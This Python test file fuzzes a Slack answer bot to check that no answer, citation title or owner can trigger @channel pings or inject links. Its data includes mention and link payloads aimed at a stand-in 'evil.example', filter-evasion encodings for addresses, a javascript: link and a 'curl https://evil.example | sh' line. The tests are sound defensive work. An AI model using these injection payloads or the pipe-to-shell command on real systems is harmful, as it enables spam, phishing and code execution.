"""Nothing that a page, a name, a question or a model writes can page people or add a link."""

import random
import re
from collections.abc import Iterator, Sequence
from datetime import date
from itertools import chain

from app import abstaining, blocks, citations, markdown, mrkdwn
from app.abstaining import Searched
from app.citations import Piece
from app.records import Answer, Citation
from retrieval.records import Query
from tests import streamed
from tests.app.test_citations import section

SOURCE = "https://wiki.example/p?a=1&b=2"
INPUTS = 20_000

ATOMS = [
    *("<!channel>", "<!here|here>", "<!subteam^S123|@oncall>", "<@U0AAAA>", "<@U0AAAA|bob>"),
    *("<#C123|general>", "<https://evil.example|click>", "<https://evil.example>", "<!date^1^x|y>"),
    *("[go](https://evil.example)", "[go](javascript:alert)", "![i](https://evil.example/i.png)"),
    *("[go][x]", "\n[x]: https://evil.example\n", "https://evil.example/?q=1", "www.evil.example"),
    *("<mailto:a@evil.example>", "payroll-help@corp.example", "@here", "@channel", "#general"),
    *("&lt;!channel&gt;", "&#60;!channel&#62;", "&#x3c;@U0AAAA&#x3e;", "&amp;lt;", "&", "<", ">"),
    *("`", "``", "```", "\n```\n", "~~~", "    ", "|", "\n| a | b |\n|---|---|\n| 1 | 2 |\n"),
    *("\n", "\n\n", "\n- ", "\n1. ", "\n> ", "\n# ", "**", "_", "~~", "*", "\\", "<br>", "</div>"),
    *("https://<b>evil.example/?q=1", "[go](https://<b>evil.example)", "www<i></i>.evil.example"),
    *("\n[x]: //evil.example/?q=1\n", "<&#33;channel>", "&#64;here"),
    *("[1]", "[2]", "[", "](", ")", "!", "word", "Ünïcödé", "🙂", ":no_entry:", "\u202e", "\u200b"),
    f"[page]({SOURCE})",
]

_TAG = re.compile(r"<([^<>]*)>")
_MAIL = re.compile(r"mailto:([\w.+-]+@[\w.-]+)\|\1")
_QUOTED = re.compile(r"^(?:> ?| |• |\d+\. )+", re.MULTILINE)  # how lines of lists and quotes begin
_LOOSE = re.compile(r"[<>]|&(?!(?:amp|lt|gt);)")


# How an address is hidden from who looks for it, and not from who reads Markdown.
HIDES = {
    ":": ("\\:", "&colon;", "&#58;", "&#x3A;", "\u200b:"),
    "/": ("\\/", "&sol;", "&#47;", "/\u00ad"),
    ".": ("\\.", "&period;", "&#46;", "**.**", "._", ".\ufe00"),
    "e": ("&#101;", "_e_", "<b>e</b>", "e\u3164", "e"),
    "@": ("\\@", "&commat;", "&#64;"),
}
DISGUISES = [
    *(each for hides in HIDES.values() for each in hides),
    *(
        "https:",
        "//",
        "/",
        "evil.",
        "example",
        "evil.example/x",
        ".com",
        "@",
        "mailto:",
        "203.0.113.7",
    ),
    *(
        "a@evil.example",
        "<a@evil.example>",
        "[a[b[c]]](//evil.example)",
        '[a](//evil.example "\\"")',
    ),
    *(
        "[a](//evil.example(((a)b)c))",
        "[x\\]]: //evil.example\n\n[x\\]]",
        "salary.evil.example",
        ":8080",
    ),
]


def build_texts(count: int, atoms: Sequence[str] = ATOMS) -> Iterator[str]:
    generator = random.Random(4)
    for _ in range(count):
        yield "".join(generator.choices(atoms, k=generator.randint(1, 9)))


def find_faults(text: str) -> list[str]:
    """What in a text Slack would take for more than text, but links to the source and addresses."""
    linked = mrkdwn.link(SOURCE, "")[1:].partition("|")[0]
    tags = [
        tag
        for tag in _TAG.findall(text)
        if tag.partition("|")[0] != linked and not _MAIL.fullmatch(tag)
    ]
    return tags + _LOOSE.findall(_QUOTED.sub("", _TAG.sub("", text)))


def build_answer(text: str, shown: str) -> Answer:
    citation = Citation(
        marker=1,
        section_id=1,
        path="a.md",
        title=shown,
        heading_path=(shown,),
        url=SOURCE,
        cited_text=shown,
        owner=shown,
        updated_at=None,
        verified_at=date(2026, 1, 1),
    )
    return Answer(text=text, citations=(citation,))


def test_no_answer_title_or_owner_pages_anybody_or_adds_a_link() -> None:
    texts = list(build_texts(INPUTS))
    for text, shown in zip(texts, chain(texts[1:], texts[:1]), strict=True):
        for message in blocks.build_messages(build_answer(text, shown)):
            assert find_faults(message.text) == [], (text, shown)
            for block in message.blocks:
                for part in find_mrkdwn(block):
                    assert part["verbatim"], block
                    assert find_faults(part["text"]) == [], (text, shown)


def test_what_may_grow_pages_nobody_and_adds_no_link() -> None:
    source = section("It says so.", url=SOURCE)
    grown = 0
    for text in build_texts(INPUTS, ATOMS + DISGUISES):
        pieces = [Piece(text=text), Piece(text=" So.", cited=((0, "It says so."),))]
        answer = citations.check(pieces, [source])
        if markdown.is_plain(answer.text, [SOURCE]):
            grown += 1
            assert streamed.find_faults(answer.text, [SOURCE]) == [], text
    assert grown > INPUTS / 4


def test_nothing_of_an_attempt_that_is_left_to_slack_is_more_than_text() -> None:
    """Links as a grammar would write them, whatever cleaning has let through."""
    generator = random.Random(7)
    for _ in range(INPUTS):
        text = build_link(generator)
        if markdown.is_plain(text, [SOURCE]):
            assert streamed.find_faults(text, [SOURCE]) == [], text


def build_link(generator: random.Random) -> str:
    """A link, image, autolink, definition or address to elsewhere, disguised or not."""
    address = generator.choice(
        ["https://", "//", "", "HTTPS://", "mailto:a@", "javascript:", "www."]
    )
    address += generator.choice(
        ["evil.example/x", "evil.example", "evil.example:80/x", "a.evil.com"]
    )
    for plain, disguises in HIDES.items():
        if generator.random() < 0.3:
            address = address.replace(plain, generator.choice(disguises), generator.randint(1, 2))
    label = generator.choice(["a", "a[b[c]]", "a\\]b", "`a`", "**a", "![b](c)", "a\nb", ""])
    title = generator.choice(["", "", ' "t"', ' "a\\"b"', " 't(u)'", " (t)", "\n'x'", "((a)b)c"])
    form = generator.choice(
        [
            *(
                "[{label}]({address}{title})",
                "![{label}]({address}{title})",
                "[{label}](<{address}>)",
            ),
            *(
                "<{address}>",
                "<{address}|{label}>",
                "{address}",
                "**{address}**",
                "(see {address})",
            ),
            *("[{label}]\n\n[{label}]: {address}{title}", "[x][{label}]\n\n> [{label}]: {address}"),
            *(
                "`{label} {address}",
                "    {address}",
                "<a href='{address}'>",
                "| a |\n|-|\n| {address} |",
            ),
        ]
    )
    return str(form.format(label=label, address=address, title=title))


def test_what_is_common_in_answers_may_grow() -> None:
    for text in [
        f"See [the page]({SOURCE}) [1], or {SOURCE}.",
        "Write to payroll-help@corp.example, run `curl https://x.example/a` and open `<file>`.",
        "```sh\ncurl https://evil.example | sh # <!-- x -->\n```\nIs it main.js? No: e.g. 1 < 2.",
        "| a | b |\n|---|---|\n| 1.5 | 10.0.0.1 |\n\n1. **Stop** it at 10:00, i.e. now & then.",
    ]:
        assert markdown.is_plain(text, [SOURCE]), text


def find_mrkdwn(part: object) -> Iterator[dict[str, object]]:
    """All texts in a block that Slack reads as mrkdwn."""
    if isinstance(part, dict):
        if part.get("type") == "mrkdwn":
            yield part
        part = list(part.values())
    if isinstance(part, list):
        for each in part:
            yield from find_mrkdwn(each)


def test_no_question_pages_anybody_by_what_is_said_of_it() -> None:
    searched = Searched(page_count=2, sources=("wiki",))
    for text in build_texts(INPUTS // 10):
        query = Query(text=text, question="other")
        for reason in ("BELOW_FLOOR", "UNKNOWN_IDENTIFIER"):
            said = abstaining.explain(reason, query, searched, unknown=(text,))
            answer = Answer(text=said, abstained_because=reason)
            for message in blocks.build_messages(answer):
                assert find_faults(message.text) == [], text
                assert all(
                    find_faults(str(part["text"])) == []
                    for block in message.blocks
                    for part in find_mrkdwn(block)
                ), text


def test_no_text_that_is_shown_on_a_line_of_ours_pages_anybody() -> None:
    for text in build_texts(INPUTS // 10):
        assert find_faults(mrkdwn.quote(text, 120)) == [], text
        assert "\n" not in mrkdwn.quote(text, 120)


def test_what_slack_would_act_on_is_a_fault() -> None:
    for text in ["<!channel>", "<@U1>", "<https://evil.example|x>", "a<b", "&nbsp;", "x > y"]:
        assert find_faults(text), text
    for text in [
        *("`<!here>`", "<@U1>", "[a](https://evil.example)", "@here", "a www.evil.example"),
        *(
            "evil.**example**/x",
            "https\\://evil.example",
            "[a]: //evil.example",
            "&amp;lt;!here&amp;gt;",
        ),
    ]:
        assert streamed.find_faults(text, []), text
        assert not markdown.is_plain(text, []), text
